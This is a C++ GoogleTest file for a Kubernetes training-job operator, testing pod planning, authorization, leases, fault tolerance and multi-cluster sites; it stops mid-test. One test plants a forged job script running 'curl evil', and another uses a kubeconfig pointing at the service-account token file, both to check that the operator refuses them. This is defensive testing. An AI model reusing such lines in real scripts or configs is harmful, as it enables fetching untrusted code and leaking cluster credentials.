// The real controller at an API server that restarts, forgets, throttles and loses answers, and killed
// itself.
//
//   [Operator] <--HTTP--> [ModelApiServer: objects, watches, faults] <--moves pods-- [test: kubelets]
//    killed, started anew       restarts, 410, 429, 5xx, lost answers
#include "operator/controller/controller.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <random>
#include <set>
#include <thread>

#include "operator/controller/operator_loop.h"
#include "operator/reconcile/objects.h"
#include "operator/reconcile/pods.h"
#include "operator/resource/stamp.h"
#include "operator/resource/timestamps.h"
#include "tests/operator/api/temporary_folder.h"
#include "tests/operator/controller/model_api_server.h"
#include "tests/operator/model_cluster.h"
#include "tests/operator/operator_process.h"

namespace longhaul::kube {
namespace {

using std::chrono::milliseconds;
using std::chrono::seconds;
using Clock = std::chrono::steady_clock;

constexpr Duration kLong = seconds(40) * LONGHAUL_SLOWNESS;

Json Job(const std::string& name = "resnet", const std::string& person = "ada") {
  Json job = JobObject();
  job["metadata"] = {{"name", name},
                     {"namespace", "team"},
                     {"generation", 1},
                     {"annotations", {{std::string(kRequesterAnnotation), person}}}};
  return job;
}

Instant Wall() {
  return Instant::FromNanoseconds(
      std::chrono::nanoseconds(std::chrono::system_clock::now().time_since_epoch()).count());
}

struct Home {
  ModelApiServer server;
  std::unique_ptr<Operator> work;
  OperatorOptions options;
  std::vector<std::string> phases;  // of the job resnet, in order
  uint64_t started = 0;
  size_t most_of_answer = size_t{16} << 20;

  explicit Home(const char* policy = "All") {
    server.may_use = {"ada", "group vision"};
    Json profile = ProfileObject();
    profile["apiVersion"] = kApiVersion;
    profile["kind"] = "TrainingProfile";
    profile["spec"]["cleanPolicy"] = policy;
    server.Create("trainingprofiles", profile);
    options.elect = false;
    options.controller.wall = Wall;
    options.controller.progress_port = 0;
    options.controller.informer.first_back_off = milliseconds(10);
    options.controller.informer.longest_back_off = milliseconds(100);
    options.controller.sites.informer = options.controller.informer;
  }

  // As the webhook stamps it.
  void Submit(Json job) {
    if (const Json& who = At(job, {"metadata", "annotations", kRequesterAnnotation}); who.is_string()) {
      Json& annotations = job["metadata"]["annotations"];
      annotations[std::string(kProofAnnotation)] = RequesterProof(
          Key(), "team", who.get<std::string>(), TextAt(annotations, {kIdentityAnnotation}), job["spec"]);
    }
    server.Create("trainingjobs", job);
  }
  // The operator's, which it makes where there is none.
  std::string Key() {
    if (work == nullptr && !server.Get("secrets", "longhaul-system/longhaul-operator-key")) {
      server.Create("secrets",
                    {{"metadata", {{"name", "longhaul-operator-key"}, {"namespace", "longhaul-system"}}},
                     {"data", {{"operator.key", "a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2U="}}}});
    }
    const auto key = SecretEntry(
        server.Get("secrets", "longhaul-system/longhaul-operator-key").value_or(Json()), "operator.key");
    return key.ok() ? *key : "";
  }

  std::unique_ptr<Operator> Make() {
    api::ClusterAccess access;
    access.server = server.url();
    api::RestOptions rest;
    rest.retry.first = milliseconds(5);
    rest.max_response_bytes = most_of_answer;
    auto client = api::RestClient::Make(access, rest, Random(++started));
    EXPECT_TRUE(client.ok());
    return std::make_unique<Operator>(*std::move(client), options, Random(started));
  }
  void Start() { work = Make(); }

  Json job(const std::string& name = "resnet") const {
    return server.Get("trainingjobs", "team/" + name).value_or(Json());
  }
  JobStatus status(const std::string& name = "resnet") const {
    return ParseJobStatus(At(job(name), {"status"}));
  }
  JobPlan plan() const {
    const Json map = server.Get("configmaps", "team/resnet-plan").value_or(Json());
    const auto nodes = ParseNodesJson(TextAt(map, {"data", "nodes.json"}));
    return PlanOf(nodes.ok() ? *nodes : std::vector<PlannedNode>(), TextAt(map, {"data", "script"}));
  }

  template <typename Done>
  bool Until(Done done, Duration limit = kLong) {
    for (const auto end = Clock::now() + limit; Clock::now() < end;) {
      if (work != nullptr) work->Turn(milliseconds(2));
      server.RunControllers();
      const std::string phase = TextAt(job(), {"status", "phase"});
      if (!phase.empty() && (phases.empty() || phases.back() != phase)) phases.push_back(phase);
      if (done()) return true;
    }
    return false;
  }
  bool UntilPhase(Phase phase) {
    return Until([&] { return status().phase == phase; });
  }
  // Ranks train as long as the job runs, and then end.
  void Kubelets() {
    for (const std::string& key : server.Workers()) {
      if (status().phase == Phase::kRunning) {
        server.EndPod(key, 0);
      } else if (ReadPod(server.Get("pods", key).value_or(Json())).fate < PodFate::kReady) {
        server.MakeReady(key);
      }
    }
  }
  bool UntilClean() {
    return Until([&] {
      Kubelets();
      return status().IsTrue("CleanedUp");
    });
  }
};

int64_t GpusOf(const Json& pod) {
  for (const Json& container : pod["spec"]["containers"]) {
    const std::string gpus = TextAt(container, {"resources", "limits", "nvidia.com/gpu"});
    if (!gpus.empty()) return std::stoll(gpus);
  }
  return 0;
}

TEST(S7S9S10S11Controller, FifteenGpusBecomeTwoPodsThatRunAndSucceed) {
  Home home;
  home.Submit(Job());
  home.Start();
  ASSERT_TRUE(home.Until([&] { return home.server.Workers().size() == 2; }));
  EXPECT_EQ(GpusOf(*home.server.Get("pods", "team/resnet-node-0")), 10);
  EXPECT_EQ(GpusOf(*home.server.Get("pods", "team/resnet-node-1")), 5);
  const JobPlan plan = home.plan();
  ASSERT_EQ(plan.nodes.size(), 2u);
  EXPECT_EQ(plan.nodes[0], (PlannedNode{"resnet-node-0", "", 10}));
  EXPECT_EQ(plan.nodes[1], (PlannedNode{"resnet-node-1", "", 5}));
  EXPECT_EQ(plan.script, "#!/usr/bin/python3\nprint()\n");
  EXPECT_EQ(plan.hash, home.status().plan_hash);
  // The key that both sides get is that of the job's uid.
  const Json key = *home.server.Get("secrets", "longhaul-system/longhaul-operator-key");
  const auto bytes = SecretEntry(key, "operator.key");
  ASSERT_TRUE(bytes.ok());
  EXPECT_NE(Dump(*home.server.Get("secrets", "team/resnet-key"))
                .find(JobKey(*bytes, TextAt(home.job(), {"metadata", "uid"}))),
            std::string::npos);

  // One of two is not enough.
  home.server.MakeReady("team/resnet-node-0");
  ASSERT_TRUE(home.Until([&] { return home.status().ready_nodes == "1/2"; }));
  EXPECT_EQ(home.status().phase, Phase::kStarting);
  home.server.MakeReady("team/resnet-node-1");
  ASSERT_TRUE(home.UntilPhase(Phase::kRunning));
  home.server.EndPod("team/resnet-node-0", 0);
  ASSERT_TRUE(home.Until([&] { return home.status().nodes[0].phase == NodePhase::kSucceeded; }));
  EXPECT_EQ(home.status().phase, Phase::kRunning);
  home.server.EndPod("team/resnet-node-1", 0);
  ASSERT_TRUE(home.UntilPhase(Phase::kSucceeded));
  ASSERT_TRUE(home.Until([&] { return home.status().IsTrue("CleanedUp") && home.server.Workers().empty(); }));
  // Clean policy All: what is left is what a person needs afterwards.
  EXPECT_TRUE(home.server.Get("persistentvolumeclaims", "team/resnet-checkpoints"));
  EXPECT_FALSE(home.server.Get("statefulsets", "team/resnet-server"));
  EXPECT_TRUE(home.server.All("pods").empty());
  EXPECT_EQ(home.server.made()["team/resnet-node-0"], 1);
  EXPECT_EQ(home.server.made()["team/resnet-node-1"], 1);
  const std::vector<std::string> last = {"Running", "Completing", "Succeeded"};
  ASSERT_GE(home.phases.size(), 3u);
  EXPECT_TRUE(std::equal(last.begin(), last.end(), home.phases.end() - 3));
  EXPECT_FALSE(home.server.said("NodeSucceeded").empty());
}

TEST(S14Controller, TheCleanPolicyNoneLeavesThePods) {
  Home home("None");
  home.Submit(Job());
  home.Start();
  ASSERT_TRUE(home.UntilClean());
  EXPECT_EQ(home.server.Workers().size(), 2u);
}

TEST(S6Controller, AUserWithoutUseIsRefusedAndTheSecondTimeIsFromTheCache) {
  Home home;
  home.Submit(Job("of-eve", "eve"));
  home.Start();
  ASSERT_TRUE(home.Until([&] { return home.status("of-eve").phase == Phase::kFailed; }));
  EXPECT_EQ(home.status("of-eve").reason, "Unauthorized");
  EXPECT_NE(home.status("of-eve").message.find("eve may not use trainingprofiles/a100"), std::string::npos);
  EXPECT_TRUE(home.server.All("pods").empty());
  EXPECT_EQ(home.server.reviews(), 1);

  home.Submit(Job("first"));
  ASSERT_TRUE(home.Until([&] { return home.status("first").IsTrue("Authorized"); }));
  EXPECT_EQ(home.server.reviews(), 2);
  home.Submit(Job("second"));
  home.Submit(Job("again-of-eve", "eve"));
  ASSERT_TRUE(home.Until([&] {
    return home.status("second").IsTrue("Authorized") && home.status("again-of-eve").phase == Phase::kFailed;
  }));
  EXPECT_EQ(home.server.reviews(), 2) << "the cache has the answers";

  // A role that is bound to a group.
  Json grace = Job("of-grace", "grace");
  grace["metadata"]["annotations"][std::string(kIdentityAnnotation)] = R"({"groups":["vision"]})";
  home.Submit(grace);
  ASSERT_TRUE(home.Until([&] { return home.status("of-grace").IsTrue("Authorized"); }));
  EXPECT_EQ(home.server.reviews(), 3);
  home.Submit(Job("of-grace-alone", "grace"));
  ASSERT_TRUE(home.Until([&] { return home.status("of-grace-alone").phase == Phase::kFailed; }));
  EXPECT_EQ(home.server.reviews(), 4) << "the same name in other groups is another question";

  Json unknown = Job("of-none");
  unknown["metadata"].erase("annotations");
  home.Submit(unknown);
  ASSERT_TRUE(home.Until([&] { return home.status("of-none").phase == Phase::kFailed; }));
  EXPECT_NE(home.status("of-none").message.find("--permission admission"), std::string::npos);

  // Without the webhook any name may stand there, and the stamp of another job: none of it is believed.
  Json forged = Job("forged"), script = home.job("first");
  home.server.Create("trainingjobs", forged);
  script["metadata"] = {
      {"name", "script"}, {"namespace", "team"}, {"annotations", script["metadata"]["annotations"]}};
  script["spec"]["script"]["inline"] = "#!/bin/sh\ncurl evil";
  script.erase("status");
  home.server.Create("trainingjobs", script);
  for (const char* name : {"forged", "script"}) {
    ASSERT_TRUE(home.Until([&] { return home.status(name).phase == Phase::kFailed; }));
    EXPECT_NE(home.status(name).message.find("lacks the stamp of the operator's webhook"), std::string::npos);
  }
  EXPECT_EQ(home.server.reviews(), 4);
}

TEST(S6Controller, WebhooksGetTheKeyThatTheOperatorMakesAlsoWithoutTheLease) {
  Home home;
  home.server.Create("leases",
                     {{"metadata", {{"name", "longhaul-operator"}, {"namespace", "longhaul-system"}}},
                      {"spec",
                       {{"holderIdentity", "another"},
                        {"leaseDurationSeconds", 3600},
                        {"renewTime", "2026-01-01T00:00:00.000000Z"}}}});
  home.options.elect = true;
  home.options.lease.name_space = "longhaul-system";
  home.options.lease.name = "longhaul-operator";
  home.options.lease.identity = "one";
  std::vector<std::string> keys;
  home.options.on_key = [&](const std::string& key) { keys.push_back(key); };
  home.Start();
  EXPECT_EQ(home.work->report().not_ready, "reads the operator's key");
  ASSERT_TRUE(home.Until([&] { return home.work->report().not_ready.empty() && !keys.empty(); }));
  EXPECT_FALSE(home.work->report().leads);
  EXPECT_EQ(keys, std::vector<std::string>{home.Key()});
  EXPECT_EQ(keys[0].size(), kOperatorKeyBytes);
}

TEST(S16Controller, AnApiServerThatRestartsForgetsAndFailsChangesNothing) {
  const char* given = std::getenv("LONGHAUL_SEED");
  const uint64_t seed = given != nullptr ? std::strtoull(given, nullptr, 10) : std::random_device{}();
  SCOPED_TRACE(testing::Message() << "LONGHAUL_SEED=" << seed);
  Random random(seed);
  Home home;
  home.Submit(Job());
  home.server.Fail(0.15, seed);
  home.Start();
  auto next = Clock::now();
  int restarts = 0;
  bool away = false;
  ASSERT_TRUE(home.Until([&] {
    home.Kubelets();
    if (Clock::now() >= next) {
      next = Clock::now() + milliseconds(20 + random.Below(60));
      away = !away && random.Chance(0.5);
      restarts += away;
      away ? home.server.GoAway() : home.server.Return();
      if (random.Chance(0.5)) home.server.Compact();
    }
    return home.status().IsTrue("CleanedUp");
  })) << Dump(home.job()["status"]);
  EXPECT_EQ(home.status().phase, Phase::kSucceeded);
  for (const auto& [pod, times] : home.server.made()) EXPECT_EQ(times, 1) << pod;
  std::printf("%d restarts of the API server\n", restarts);
}

TEST(S16Controller, KilledAtRandomPointsItDoublesNoPodAndReachesTheSameEnd) {
  const char* given = std::getenv("LONGHAUL_SEED");
  const uint64_t first = given != nullptr ? std::strtoull(given, nullptr, 10) : std::random_device{}();
  int kills = 0;
  for (uint64_t seed = first; kills < 20 || seed == first; ++seed) {
    SCOPED_TRACE(testing::Message() << "LONGHAUL_SEED=" << seed);
    Random random(seed);
    Home home;
    home.Submit(Job());
    const auto begun = Clock::now();
    while (!home.status().IsTrue("CleanedUp")) {
      ASSERT_LT(Clock::now() - begun, kLong) << Dump(home.job()["status"]);
      home.Start();
      // So many writes and answers later it is dead, in the middle of whatever it does.
      const uint64_t until = home.server.requests() + 1 + random.Below(4);
      (void)home.Until(
          [&] {
            if (random.Chance(0.3)) home.Kubelets();
            return home.server.requests() >= until || home.status().IsTrue("CleanedUp");
          },
          seconds(2));
      home.work.reset();
      ++kills;
    }
    EXPECT_EQ(home.status().phase, Phase::kSucceeded);
    for (const NodeStatus& node : home.status().nodes)
      EXPECT_EQ(node.disruptions + node.retries, 0) << node.name;
    for (const auto& [pod, times] : home.server.made()) EXPECT_EQ(times, 1) << pod;
    EXPECT_EQ(home.plan().nodes.size(), 2u);
    // Of the key there is one, which all of them used.
    EXPECT_EQ(home.server.All("secrets").size(), 2u);
    home.Start();
    (void)home.Until([&] { return home.work->report().controller.reconciles > 0; });
    EXPECT_EQ(home.work->report().controller.created, 0u) << "nothing is left to do";
  }
  std::printf("%d times killed\n", kills);
}

TEST(S5Controller, ANameThatIsAnothersIsSaidAndNotTaken) {
  Home home;
  home.server.Create(
      "configmaps", {{"metadata", {{"name", "resnet-plan"}, {"namespace", "team"}}}, {"data", {{"a", "b"}}}});
  home.Submit(Job());
  home.Start();
  ASSERT_TRUE(home.Until([&] { return !home.server.said("NameTaken").empty(); }));
  EXPECT_NE(home.server.said("NameTaken")[0].find("ConfigMap resnet-plan"), std::string::npos);
  EXPECT_EQ(TextAt(*home.server.Get("configmaps", "team/resnet-plan"), {"data", "a"}), "b");
  EXPECT_TRUE(home.server.Workers().empty());
  home.server.Remove("configmaps", "team/resnet-plan");
  EXPECT_TRUE(home.UntilClean());
  EXPECT_EQ(home.status().phase, Phase::kSucceeded);
}

TEST(S15Controller, ANodeThatFailsIsCountedOnceAndRetried) {
  Home home;
  home.Submit(Job());
  home.Start();
  ASSERT_TRUE(home.Until([&] {
    if (home.status().phase != Phase::kRunning) home.Kubelets();
    return home.status().phase == Phase::kRunning;
  }));
  home.server.EndPod("team/resnet-node-1", 3);
  ASSERT_TRUE(home.Until([&] { return home.server.made()["team/resnet-node-1"] == 2; }));
  EXPECT_EQ(home.status().nodes[1].retries, 1);
  EXPECT_EQ(home.status().nodes[1].last_exit_code, 3);
  EXPECT_EQ(home.server.made()["team/resnet-node-0"], 1);
  ASSERT_TRUE(home.UntilClean());
  EXPECT_EQ(home.status().phase, Phase::kSucceeded);
  EXPECT_EQ(home.server.said("NodeFailed").size(), 1u);
}

TEST(S10Controller, AScriptOfAConfigMapIsReadWhenItIsThere) {
  Home home;
  Json job = Job();
  job["spec"]["script"] = {{"configMapRef", {{"name", "script"}, {"key", "train.py"}}}};
  home.Submit(job);
  home.Start();
  ASSERT_TRUE(home.Until([&] {
    const JobStatus status = home.status();
    const Condition* planned = status.Find("Planned");
    return planned != nullptr && planned->reason == "ScriptNotFound";
  }));
  home.server.Create("configmaps", {{"metadata", {{"name", "script"}, {"namespace", "team"}}},
                                    {"data", {{"train.py", "print(1)"}}}});
  ASSERT_TRUE(home.Until([&] { return home.server.Workers().size() == 2; }));
  EXPECT_EQ(home.plan().script, "print(1)");
}

TEST(S9Controller, WhatMachinesHaveFreeIsDiscovered) {
  Home home;
  const auto node = [&](const char* name, const char* gpus) {
    home.server.Create(
        "nodes", {{"metadata", {{"name", name}}}, {"status", {{"allocatable", {{"nvidia.com/gpu", gpus}}}}}});
  };
  node("m1", "8");
  node("m2", "8");
  const auto pod = [](const char* name, const char* gpus) {
    return Json{{"metadata", {{"name", name}, {"namespace", "other"}}},
                {"spec",
                 {{"nodeName", "m2"},
                  {"containers", {{{"resources", {{"requests", {{"nvidia.com/gpu", gpus}}}}}}}}}}};
  };
  home.server.Create("pods", pod("busy", "4"));
  Json job = Job();
  job["spec"]["allocation"] = {{"capacity", "Discovered"}};
  job["spec"]["totalGPUs"] = 12;
  home.Submit(job);
  home.Start();
  ASSERT_TRUE(home.Until([&] { return home.server.Workers().size() == 2; })) << Dump(home.job()["status"]);
  EXPECT_EQ(home.plan().nodes[0].gpus, 8);
  EXPECT_EQ(home.plan().nodes[1].gpus, 4);
}

TEST(S7Controller, MachinesThatAreLongInJsonAreLookedAtInSmallerPages) {
  Home home;
  home.most_of_answer = 100'000;
  for (int i = 0; i < 60; ++i) {
    home.server.Create(
        "nodes",
        {{"metadata",
          {{"name", "m" + std::to_string(i)}, {"annotations", {{"features", std::string(10'000, 'f')}}}}},
         {"status", {{"allocatable", {{"nvidia.com/gpu", i == 59 ? "9" : "0"}}}}}});
  }
  Json job = Job();
  job["spec"]["allocation"] = {{"capacity", "Discovered"}};
  job["spec"]["totalGPUs"] = 9;
  home.Submit(job);
  home.Start();
  ASSERT_TRUE(home.Until([&] { return home.server.Workers().size() == 1; })) << Dump(home.job()["status"]);
}

// --- long scripts

TEST(S10Controller, ALongScriptIsReadWhenItsPlanIsWritten) {
  Home home;
  Json job = Job();
  const std::string script = "#!/bin/sh\n" + std::string(kKeptScriptBytes, '#');
  job["spec"]["script"]["inline"] = script;
  home.Submit(job);
  home.Start();
  ASSERT_TRUE(home.Until([&] { return home.server.Workers().size() == 2; })) << home.status().message;
  EXPECT_EQ(home.plan().script, script);
  EXPECT_EQ(home.plan().hash, home.status().plan_hash);
  const Json pod = *home.server.Get("pods", "team/resnet-node-0");
  EXPECT_EQ(Dump(pod["spec"]["containers"][1]["command"]).find("python3"), std::string::npos);
  home.server.Remove("configmaps", "team/resnet-plan");
  ASSERT_TRUE(home.Until([&] { return home.server.Get("configmaps", "team/resnet-plan").has_value(); }));
  EXPECT_EQ(home.plan().script, script);
  // By other hands, of the same length.
  home.server.Change("configmaps", "team/resnet-plan", [](Json* map) {
    (*map)["data"]["script"] = "#!/bin/sh\n" + std::string(kKeptScriptBytes, 'x');
  });
  ASSERT_TRUE(home.Until([&] {
    return home.server.Get("configmaps", "team/resnet-plan").has_value() && home.plan().script == script;
  }));
  EXPECT_EQ(home.status().attempt, 1);
  ASSERT_TRUE(home.UntilClean());
}

// A job of that name that was deleted and made anew meanwhile, or is gone.
TEST(S10Controller, ALongScriptOfAnotherObjectIsNotTaken) {
  Home home;
  Json job = Job();
  const std::string script = "#!/bin/sh\n" + std::string(kKeptScriptBytes, '#');
  job["spec"]["script"]["inline"] = script;
  home.Submit(job);
  std::atomic<int> reads = 0;
  home.server.Misread("trainingjobs", [&](int* code, Json* object) {
    if (++reads % 2 == 0) {
      *code = 404;
      *object = {{"kind", "Status"}, {"code", 404}, {"reason", "NotFound"}};
    } else if (object->contains("spec")) {
      (*object)["metadata"]["uid"] = "another";
      (*object)["spec"]["script"]["inline"] = "#!/bin/sh\n" + std::string(kKeptScriptBytes, 'x');
    }
  });
  home.Start();
  ASSERT_TRUE(home.Until([&] { return reads >= 4; }));
  EXPECT_EQ(home.status().attempt, 1) << "it was planned anew";
  EXPECT_FALSE(home.server.Get("configmaps", "team/resnet-plan"));
  home.server.Misread("", nullptr);
  ASSERT_TRUE(home.Until([&] { return home.server.Workers().size() == 2; })) << home.status().message;
  EXPECT_EQ(home.plan().script, script);
  ASSERT_TRUE(home.UntilClean());
}

TEST(S16Controller, AHundredJobsWithLongScriptsFitIntoTheMemoryOfItsPod) {
  constexpr int kJobs = LONGHAUL_SLOWNESS > 1 ? 10 : 100;  // with a sanitizer its memory says nothing
  Home home;
  api::TemporaryFolder folder;
  folder.Write("kubeconfig", OperatorProcess::Kubeconfig(home.server.url()));
  const auto job = [&](int i) {
    Json one = Job("job-" + std::to_string(i));
    one["spec"]["script"]["inline"] =
        "#!/usr/bin/python3\n" + std::string(250'000, static_cast<char>('a' + i % 26));
    one["metadata"]["annotations"]["kubectl.kubernetes.io/last-applied-configuration"] = one.dump();
    return one;
  };
  for (int i = 0; i < kJobs; ++i) home.Submit(job(i));
  std::set<std::string> ready;
  const auto running = [&] {
    for (const std::string& key : home.server.Workers()) {
      if (ready.insert(key).second) home.server.MakeReady(key);
    }
    const auto phases = home.server.Phases("trainingjobs");
    return std::ranges::count(phases, "Running", [](const auto& one) { return one.second; }) == kJobs;
  };
  const std::vector<std::string> flags = {"--kubeconfig", folder.path() + "/kubeconfig", "--no-lease"};
  double most = 0;
  {
    const OperatorProcess program(flags, false);
    ASSERT_TRUE(home.Until(running, 4 * kLong));
    most = program.MostMegabytes();
  }
  const OperatorProcess again(flags, false);  // all of them run when it begins
  ready.clear();
  for (int i = 0; i < kJobs; ++i) home.server.Remove("pods", "team/job-" + std::to_string(i) + "-node-1");
  ASSERT_TRUE(home.Until(
      [&] {
        return home.server.made()["team/job-" + std::to_string(kJobs - 1) + "-node-1"] > 1 && running();
      },
      4 * kLong));
  std::printf("%d jobs of 250 kB scripts: %.1f MB from their plans on, %.1f MB of an operator that begins\n",
              kJobs, most, again.MostMegabytes());
  if (LONGHAUL_SLOWNESS > 1) return;
  EXPECT_LT(std::max(most, again.MostMegabytes()), 50);
}

// --- several operators

TEST(S16Controller, ALeaseThatIsGivenUpOrRunsOutIsTakenOver) {
  Home home;
  home.options.elect = true;
  home.options.lease = {"longhaul-system", "longhaul-operator", "one",
                        seconds(1),        milliseconds(700),   milliseconds(50)};
  home.Start();
  ASSERT_TRUE(home.Until([&] { return home.work->report().leads; }));
  home.options.lease.identity = "two";
  auto second = home.Make();
  for (int i = 0; i < 50; ++i) {
    home.work->Turn(milliseconds(2));
    second->Turn(milliseconds(2));
  }
  EXPECT_FALSE(second->report().leads);

  home.work->Stop();
  ASSERT_TRUE(home.Until([&] { return home.work->stopped(); }));
  const auto given_up = Clock::now();
  home.work = std::move(second);
  ASSERT_TRUE(home.Until([&] { return home.work->report().leads; }));
  EXPECT_LT(Clock::now() - given_up, milliseconds(700) * LONGHAUL_SLOWNESS)
      << "it waited for the lease to run out";

  home.work.reset();  // killed: nothing is given up
  home.options.lease.identity = "three";
  home.Start();
  home.Submit(Job());
  ASSERT_TRUE(home.UntilClean());
  EXPECT_EQ(home.work->report().lease.acquired, 1u);
  EXPECT_EQ(home.status().phase, Phase::kSucceeded);
}

TEST(S16Controller, WithoutItsLeaseItWritesNothing) {
  Home home;
  home.options.elect = true;
  home.options.lease = {"longhaul-system", "longhaul-operator", "one",
                        seconds(1),        milliseconds(500),   milliseconds(50)};
  home.Start();
  ASSERT_TRUE(home.Until([&] { return home.work->report().leads; }));
  // Another one has it now, and renews it.
  const std::string other = "2026-11-28T07:48:31.00000";
  home.server.Change("leases", "longhaul-system/longhaul-operator", [&](Json* lease) {
    (*lease)["spec"]["holderIdentity"] = "two";
    (*lease)["spec"]["renewTime"] = other + "1Z";
  });
  ASSERT_TRUE(home.Until([&] { return !home.work->report().leads; }));
  home.Submit(Job());
  int renewals = 1;
  const auto begun = Clock::now();
  ASSERT_TRUE(home.Until([&] {
    home.server.Change("leases", "longhaul-system/longhaul-operator", [&](Json* lease) {
      (*lease)["spec"]["renewTime"] = other + std::to_string(renewals++ % 10) + "Z";
    });
    return Clock::now() - begun > seconds(2);
  }));
  EXPECT_TRUE(home.job()["status"].is_null());
}

TEST(S16Controller, AKeyThatWasTamperedWithIsSaidAndNotReplaced) {
  Home home;
  const Json secret = {{"metadata", {{"name", "longhaul-operator-key"}, {"namespace", "longhaul-system"}}},
                       {"data", {{"operator.key", "bG9uZw=="}}}};
  home.server.Create("secrets", secret);
  home.Submit(Job());
  home.Start();
  ASSERT_TRUE(home.Until([&] {
    return home.work->report().not_ready.find("is not as the operator made it: its key has 4 bytes") !=
           std::string::npos;
  })) << home.work->report().not_ready;
  EXPECT_EQ(home.server.Get("secrets", "longhaul-system/longhaul-operator-key")->at("data"), secret["data"]);
  EXPECT_TRUE(home.job()["status"].is_null());
}

// --- several clusters

struct TwoSites : Home {
  ModelApiServer there;

  Json Kubeconfig(const std::string& user) {
    const std::string text =
        "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters: [{name: c, cluster: {server: \"" +
        there.url() + "\"}}]\nusers: [{name: u, user: {" + user +
        "}}]\ncontexts: [{name: c, context: {cluster: c, user: u}}]\n";
    std::string base64;
    static constexpr char kDigits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (size_t i = 0; i < text.size(); i += 3) {
      uint32_t bits = 0;
      for (size_t j = 0; j < 3; ++j)
        bits = bits << 8 | (i + j < text.size() ? static_cast<uint8_t>(text[i + j]) : 0);
      for (size_t j = 0; j < 4; ++j) base64 += i + j > text.size() ? '=' : kDigits[bits >> (18 - 6 * j) & 63];
    }
    return {{"metadata", {{"name", "frankfurt"}, {"namespace", "team"}}}, {"data", {{"kubeconfig", base64}}}};
  }
  Json SitesJob() {
    Json job = Job();
    job["spec"]["server"]["expose"] = "NodePort";
    job["spec"]["sites"] = {{{"name", "amsterdam"}, {"gpus", 10}},
                            {{"name", "frankfurt"}, {"gpus", 5}, {"kubeconfigSecret", "frankfurt"}}};
    return job;
  }
  template <typename Done>
  bool UntilBoth(Done done) {
    return Until([&] {
      there.RunControllers();
      Kubelets();
      server.Change("services", "team/resnet-public",
                    [](Json* service) { (*service)["spec"]["ports"][0]["nodePort"] = 30700; });
      for (const std::string& key : there.Workers()) {
        if (status().phase == Phase::kRunning) {
          there.EndPod(key, 0);
        } else if (ReadPod(there.Get("pods", key).value_or(Json())).fate < PodFate::kReady) {
          there.MakeReady(key);
        }
      }
      return done();
    });
  }
  std::string Degraded() const {
    const JobStatus now = status();
    const Condition* degraded = now.Find("Degraded");
    return degraded == nullptr || degraded->status != ConditionStatus::kTrue ? "" : degraded->message;
  }
};

TEST(S16Sites, OneJobOverTwoApiServersSucceedsAndItsAnchorGoesWithIt) {
  TwoSites both;
  both.server.Create("secrets", both.Kubeconfig("token: abc"));
  both.Submit(both.SitesJob());
  both.Start();
  ASSERT_TRUE(both.UntilBoth([&] { return both.there.made().size() == 1; })) << Dump(both.job()["status"]);
  EXPECT_TRUE(both.there.Get("configmaps", "team/resnet-plan"));
  EXPECT_EQ(both.there.made()["team/resnet-node-1"], 1);
  ASSERT_TRUE(both.UntilBoth([&] { return both.status().IsTrue("CleanedUp"); }))
      << Dump(both.job()["status"]);
  EXPECT_EQ(both.status().phase, Phase::kSucceeded);
  EXPECT_EQ(both.server.made()["team/resnet-node-0"], 1);
  EXPECT_FALSE(both.server.made().contains("team/resnet-node-1"));
  // Deleted by a person: what is in the other cluster goes first, and then the job.
  EXPECT_FALSE(At(both.job(), {"metadata", "finalizers"}).empty());
  both.server.Change("trainingjobs", "team/resnet",
                     [](Json* job) { (*job)["metadata"]["deletionTimestamp"] = TimestampText(Wall()); });
  ASSERT_TRUE(both.UntilBoth([&] { return both.job().is_null(); }));
  (void)both.UntilBoth([] { return true; });
  EXPECT_TRUE(both.there.All("configmaps").empty());
}

TEST(S16Sites, ASecretThatCannotBeReadIsNamedInACondition) {
  TwoSites both;
  both.Submit(both.SitesJob());
  both.Start();
  ASSERT_TRUE(both.UntilBoth([&] { return !both.Degraded().empty(); })) << Dump(both.job()["status"]);
  EXPECT_NE(both.Degraded().find("site frankfurt does not answer"), std::string::npos) << both.Degraded();
  EXPECT_NE(both.Degraded().find("Secret frankfurt cannot be read"), std::string::npos) << both.Degraded();
}

TEST(S16Sites, AKubeconfigThatWouldSendTheOperatorsOwnTokenIsRefused) {
  TwoSites both;
  both.server.Create("secrets",
                     both.Kubeconfig("tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token"));
  both.Submit(both.SitesJob());
  both.Start();
  ASSERT_TRUE(both.UntilBoth([&] { return !both.Degraded().empty(); }));
  EXPECT_NE(both.Degraded().find("it names files"), std::string::npos) << both.Degraded();
  EXPECT_EQ(both.there.requests(), 0u);
}

TEST(S16Sites, WhatOneClusterRefusesKeepsNoOtherFromItsPods) {
  TwoSites both;
  both.server.Create("secrets", both.Kubeconfig("token: abc"));
  both.Submit(both.SitesJob());
  both.there.Forbid("POST configmaps");  // of which the anchor there is the first
  both.Start();
  ASSERT_TRUE(both.UntilBoth([&] { return both.server.made()["team/resnet-node-0"] == 1; }))
      << Dump(both.job()["status"]);
  EXPECT_FALSE(both.server.said("ActionFailed").empty());
  EXPECT_TRUE(both.there.made().empty());

  // The pod of the first rank is made before that of the second.
  both.server.Forbid("POST pods");
  both.server.EndPod("team/resnet-node-0", 3);
  both.there.Forbid("");
  ASSERT_TRUE(both.UntilBoth([&] { return both.there.made()["team/resnet-node-1"] == 1; }))
      << Dump(both.job()["status"]);
  EXPECT_EQ(both.server.made()["team/resnet-node-0"], 1);

  both.server.Forbid("");
  ASSERT_TRUE(both.UntilBoth([&] { return both.status().IsTrue("CleanedUp"); }))
      << Dump(both.job()["status"]);
  EXPECT_EQ(both.status().phase, Phase::kSucceeded);
}

TEST(S16Sites, WithoutItsStatusNothingOfADecisionIsDoneInAnyCluster) {
  TwoSites both;
  both.server.Create("secrets", both.Kubeconfig("token: abc"));
  both.Submit(both.SitesJob());
  both.Start();
  ASSERT_TRUE(both.Until([&] { return !both.status().plan_hash.empty(); }));
  both.work.reset();
  // A status to write, a plan to make here and an anchor there.
  both.server.Change("trainingjobs", "team/resnet",
                     [](Json* job) { (*job)["status"]["observedGeneration"] = 0; });
  both.server.Remove("configmaps", "team/resnet-plan");
  for (const Json& map : both.there.All("configmaps"))
    both.there.Remove("configmaps", "team/" + TextAt(map, {"metadata", "name"}));
  both.server.Forbid("PATCH trainingjobs");
  both.Start();
